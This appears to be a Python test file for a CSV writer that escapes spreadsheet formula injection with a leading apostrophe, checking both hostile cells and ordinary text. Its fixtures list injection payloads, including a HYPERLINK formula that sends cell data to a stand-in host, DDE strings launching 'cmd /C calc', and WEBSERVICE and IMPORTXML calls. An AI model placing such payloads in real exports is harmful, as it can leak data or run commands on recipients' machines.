"""CSV: every reader gets the cells back, and no spreadsheet finds a formula in mail."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from listminer.sheets import csv_line


def read(line: str, **form: str) -> list[str]:
    (row,) = csv.reader(io.StringIO(line, newline=""), **form)
    return row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"see")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '+WEBSERVICE("http://x.example/")',
        '+1\n&WEBSERVICE ("http://x.example/")',
        "-'http://x.example/a.ods'#$Sheet1.A1",
        '\t=IMPORTXML("http://x.example/", "//a")',
        "\r=1",
        "\n =1",
        "\x00=1",
        "＝1+1",
        "'=1",
    ],
)
def test_what_a_spreadsheet_could_run_stands_behind_an_apostrophe(text):
    assert read(csv_line([text, "x"])) == ["'" + text, "x"]


@pytest.mark.parametrize(
    "text",
    [
        "+1",
        "-1",
        "+0, but see bug #4",
        "- item\n- another",
        "-- \nAda",
        "--- a/setup.py",
        "\tindented",
        "it's = to that (really)!",
        "'quoted'",
        "",
    ],
)
def test_what_people_write_is_left_as_it_is(text):
    assert read(csv_line([text, "x"])) == [text, "x"]


def test_no_cell_begins_behind_a_semicolon_or_a_tab_of_the_mail():
    for mark in ";\t":
        assert len(read(csv_line([f"so{mark}=1", "x"]).replace(",", mark), delimiter=mark)) == 2


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
def test_each_text_can_be_told_from_its_cell(texts):
    for cell, text in zip(read(csv_line(texts)), texts, strict=True):
        assert cell in (text, "'" + text)
        is_guarded = cell.startswith("'") and read(csv_line([cell[1:], ""]))[0] == cell
        assert (cell[1:] if is_guarded else cell) == text


def test_a_million_marks_take_no_time():
    for text in (
        "'" * 1_000_000,
        "\t" * 1_000_000,
        "+" * 1_000_000,
        "+" + " #" * 500_000,
        "+" * 9 + " " * 1_000_000,
    ):
        csv_line([text])
